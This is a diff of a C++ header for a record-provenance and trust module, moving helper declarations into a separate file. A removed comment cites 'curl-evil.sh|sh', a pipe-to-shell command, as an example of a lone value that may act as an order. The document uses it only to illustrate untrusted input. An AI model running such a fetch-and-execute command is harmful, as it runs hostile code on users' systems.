@@ -15,6 +15,7 @@
 #include "model/origin.hpp"
 #include "ops/records/provenance_book.hpp"
 #include "ops/records/record.hpp"
+#include "ops/records/telling_texts.hpp"
 #include "ops/records/trust.hpp"
 
 namespace handoff::ops {
@@ -104,14 +105,6 @@ void remember_read(const git::Repository& repository, const Record& record);
 /// Of an imported record the commands in it are whoever wrote the document's.
 bool text_is_imported(const git::Repository& repository, const std::string& oid);
 void remember_imported(const git::Repository& repository, const std::string& oid);
-
-/// A name, an id, a path: the same in many records. Beside other words it says nothing of whose an
-/// item is; alone it may be an order ("curl-evil.sh|sh").
-bool is_handle(std::string_view text);
-/// A word as a status has it, a number, a date, an id of git's: too little to say anything with.
-bool is_plain_handle(std::string_view text);
-/// Of the texts of one item, those that tell whose it is.
-std::vector<std::string> telling_texts(std::vector<std::string> texts);
 
 /// Visits each item of a record with the keys that it stands below: elements of lists, and single
 /// values. Not what the tool alone writes.
